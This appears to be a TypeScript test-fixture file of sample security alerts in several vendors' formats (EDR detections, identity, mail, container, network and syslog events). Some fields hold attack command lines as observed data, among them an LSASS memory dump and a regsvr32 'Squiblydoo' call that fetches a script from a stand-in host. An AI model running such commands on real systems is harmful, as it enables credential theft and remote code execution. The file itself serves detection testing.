import type { JsonObject } from '../../../shared/model/json.ts';

/** Endpoints, identity, mail, containers and networks in their true shapes. Everything named is our own. */
export function crowdstrikeDetection(): JsonObject {
  return {
    metadata: {
      customerIDString: '0123456789abcdef0123456789abcdef',
      offset: 14947764,
      eventType: 'EppDetectionSummaryEvent',
      eventCreationTime: 1793603705000,
      version: '1.0',
    },
    event: {
      CompositeId: '0123:ind:4567:89-10-11',
      Name: 'Credential theft',
      Description: 'A process read the memory of LSASS.',
      Severity: 70,
      SeverityName: 'High',
      PatternId: 10197,
      Tactic: 'Credential Access',
      Technique: 'OS Credential Dumping',
      Objective: 'Gain Access',
      Hostname: 'WS-EVA-07',
      UserName: 'eva',
      MachineDomain: 'CORP',
      LocalIP: '10.20.4.7',
      FileName: 'pd.exe',
      FilePath: '\\Device\\HarddiskVolume2\\Temp\\pd.exe',
      CommandLine: 'pd.exe -ma lsass',
      ParentImageFileName: 'powershell.exe',
      SHA256String: 'd'.repeat(64),
      SHA1String: '0'.repeat(40),
      PatternDispositionDescription: 'Prevention, process killed.',
      UTCTimestamp: 1793603700,
    },
  };
}

export function sentineloneActivity(): JsonObject {
  return {
    activityType: 3608,
    agentId: '99',
    createdAt: '2026-11-02T08:01:00.500000Z',
    data: {
      alertId: '1570395776954206599',
      agentIpV4: '10.20.4.51',
      detectedAt: '2026-11-02T08:00:40Z',
      dstIp: '203.0.113.61',
      dstPort: 8443,
      ruleId: '777',
      ruleName: 'Archive made in a public folder',
      ruleDescription: 'Looks for archives',
      severity: 'E_CRITICAL',
      userName: 'kim',
    },
    id: '5424',
    primaryDescription: 'Alert created for 7z from Custom Rule: Archive in Group Main, detected on WS-KIM-04.',
    secondaryDescription: 'e'.repeat(40),
  };
}

export function sentineloneThreat(): JsonObject {
  return {
    id: '1570395776954206600',
    agentRealtimeInfo: { agentComputerName: 'SRV-LOG-02', agentDomain: 'CORP' },
    agentDetectionInfo: { agentIpV4: '10.20.5.2', externalIp: '198.51.100.4' },
    indicators: [{ tactics: [{ name: 'Persistence', techniques: [{ name: 'T1547.001', link: 'x' }] }] }],
    threatInfo: {
      threatName: 'drop.exe',
      classification: 'Ransomware',
      confidenceLevel: 'malicious',
      analystVerdict: 'false_positive',
      incidentStatus: 'resolved',
      mitigationStatus: 'mitigated',
      identifiedAt: '2026-11-02T08:20:00.000Z',
      sha1: 'f'.repeat(40),
      filePath: '\\Device\\HarddiskVolume3\\drop.exe',
      maliciousProcessArguments: '/all',
      originatorProcess: 'explorer.exe',
      processUser: 'CORP\\svc-log',
    },
  };
}

export function carbonBlackAlert(): JsonObject {
  return {
    org_key: 'ABCD1234',
    id: '5a3bd1d8-0000-4000-8000-000000000007',
    type: 'WATCHLIST',
    backend_timestamp: '2026-11-02T08:40:10.000Z',
    detection_timestamp: '2026-11-02T08:39:55.120Z',
    reason: 'Process regsvr32.exe was detected by the report "Squiblydoo"',
    severity: 7,
    report_id: 'rep-1',
    report_name: 'Squiblydoo',
    watchlists: [{ id: 'w1', name: 'Living off the land' }],
    attack_tactic: 'TA0005',
    attack_technique: 'T1218.010',
    device_name: 'CORP\\WS-UMA-03',
    device_username: 'uma@corp.example',
    device_internal_ip: '10.20.4.33',
    process_name: 'c:\\windows\\system32\\regsvr32.exe',
    process_cmdline: 'regsvr32 /s /i:http://x.example.test/a scrobj.dll',
    process_sha256: 'a1'.repeat(32),
    parent_name: 'c:\\windows\\explorer.exe',
    netconn_remote_ip: '203.0.113.71',
    netconn_remote_port: 80,
    sensor_action: 'ALLOW',
    determination: { value: 'NONE' },
    workflow: { status: 'OPEN' },
  };
}

export function oktaEvent(): JsonObject {
  return {
    uuid: '7d0c9f5e-0000-11f0-8000-000000000001',
    published: '2026-11-02T09:00:00.250Z',
    eventType: 'security.threat.detected',
    version: '0',
    severity: 'WARN',
    displayMessage: 'Request from suspicious actor',
    actor: { id: '00u1', type: 'User', alternateId: 'noa@corp.example', displayName: 'Noa' },
    client: { ipAddress: '203.0.113.81', device: 'Computer' },
    outcome: { result: 'DENY', reason: 'Password spray' },
    target: [{ id: '00u2', type: 'User', alternateId: 'unknown' }],
    securityContext: { domain: 'isp.example.test' },
    debugContext: { debugData: { risk: '{reasons=Anomalous Device, level=HIGH}', threatSuspected: 'true' } },
  };
}

export function proofpointMessage(): JsonObject {
  return {
    GUID: 'c26dbea0-80d5-463b-b93c-4e8b708219ce',
    messageID: '<20261102@mail.example.test>',
    messageTime: '2026-11-02T09:10:00.000Z',
    sender: 'boss@mail.example.test',
    senderIP: '192.0.2.55',
    recipient: ['ana@corp.example', 'omar@corp.example'],
    subject: 'Invoice overdue',
    malwareScore: 0,
    phishScore: 92,
    spamScore: 30,
    impostorScore: 10,
    quarantineFolder: null,
    threatsInfoMap: [
      {
        threat: 'https://pay.example.test/now',
        threatID: 't1',
        threatType: 'url',
        classification: 'phish',
        threatStatus: 'active',
        campaignID: 'c9',
      },
      {
        threat: 'ab'.repeat(32),
        threatID: 't2',
        threatType: 'attachment',
        classification: 'malware',
        threatStatus: 'cleared',
      },
    ],
    messageParts: [{ filename: 'invoice.html', sha256: 'cd'.repeat(32), md5: '12'.repeat(16) }],
  };
}

export function falcoEvent(): JsonObject {
  return {
    time: '2026-11-02T09:20:00.746609046Z',
    rule: 'Terminal shell in container',
    priority: 'Notice',
    source: 'syscall',
    hostname: 'node-4',
    output: 'A shell was spawned in a container (user=root)',
    tags: ['container', 'mitre_privilege_escalation', 'T1059'],
    output_fields: {
      'container.id': '3a1b2c3d4e5f',
      'container.name': 'shop',
      'k8s.ns.name': 'prod',
      'k8s.pod.name': 'shop-7d9f',
      'proc.cmdline': 'sh -c id',
      'proc.exepath': '/bin/sh',
      'proc.pname': null,
      'user.name': 'root',
      'fd.sip': '203.0.113.90',
      'fd.sport': '443',
      'evt.time': '1793611200746609046',
    },
  };
}

export function zeekNoticeRecord(): JsonObject {
  return {
    _path: 'notice',
    ts: '2026-11-02T09:30:00.500000Z',
    uid: 'CxYz1',
    'id.orig_h': '10.20.4.61',
    'id.orig_p': 51000,
    'id.resp_h': '203.0.113.95',
    'id.resp_p': 22,
    note: 'SSH::Password_Guessing',
    msg: '10.20.4.61 appears to be guessing SSH passwords (seen in 30 connections).',
    sub: 'Sampled servers: 203.0.113.95',
    src: '10.20.4.61',
    actions: ['Notice::ACTION_LOG', 'Notice::ACTION_EMAIL'],
    suppress_for: 3600,
  };
}

export const CEF_LINE =
  '<134>Nov  2 09:40:00 fw-1 CEF:0|Example Corp|Gate|9.1|sig\\|77|Exploit of a \\\\ share|7|' +
  'rt=1793612400000 src=10.20.4.71 spt=50000 dst=203.0.113.99 dpt=445 suser=mia duser=svc shost=WS-MIA-01 ' +
  'request=https://share.example.test/a?b\\=c act=Blocked cat=intrusion cs1Label=MITRE Technique cs1=T1210 ' +
  'fileHash=' +
  '9'.repeat(64) +
  ' msg=Two lines\\nuid=0 user=root externalId=ev-1';

export const LEEF_LINE =
  '<13>1 2026-11-02T09:50:00.000Z gw-2 LEEF:2.0|Example|Mail|1|M-12|x5E|devTime=2026-11-02T09:49:30Z^src=10.20.4.81^' +
  'dst=203.0.113.101^srcPort=40000^dstPort=25^usrName=lea^sev=9^cat=virus^msg=Worm in an attachment';

export const FAST_LINE =
  '11/02/2026-10:00:00.123456  [Drop] [**] [1:2034567:3] ET WORM Example CVE-2026-20002 [**] ' +
  '[Classification: A Network Trojan was detected] [Priority: 1] {TCP} 10.20.4.91:40001 -> 2001:db8::7:443';
